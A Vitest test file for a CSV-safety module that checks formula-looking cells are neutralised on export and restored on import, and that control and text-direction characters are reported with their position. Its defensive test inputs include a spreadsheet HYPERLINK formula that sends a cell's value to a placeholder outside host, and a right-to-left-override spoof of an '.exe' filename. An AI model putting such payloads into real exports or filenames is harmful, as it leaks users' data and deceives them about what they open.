import { describe, expect, it } from 'vitest';
import { neutralizeCell, restoreCell, unsafeCharacter } from './csvSafety.js';

describe('CSV cells', () => {
  it('exports formula-looking text as text, and imports it back unchanged', () => {
    for (const v of ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(neutralizeCell(v)).toBe(`'${v}`);
      expect(restoreCell(neutralizeCell(v))).toBe(v);
    }
    for (const v of ['Tent to sleeping bag', "O'Brien's pick", '', '12']) {
      expect(neutralizeCell(v)).toBe(v);
      expect(restoreCell(v)).toBe(v);
    }
  });

  it('names control and bidi characters with their position', () => {
    expect(unsafeCharacter('fine note')).toBeNull();
    expect(unsafeCharacter('ab\u0007c')).toBe('a control character (U+0007) at position 3');
    expect(unsafeCharacter('\u202Egnp.exe')).toBe('a text-direction character (U+202E) at position 1');
    expect(unsafeCharacter('x\u2066y')).toMatch(/U\+2066/);
    expect(unsafeCharacter('two\nlines')).toMatch(/U\+000A/);
  });
});
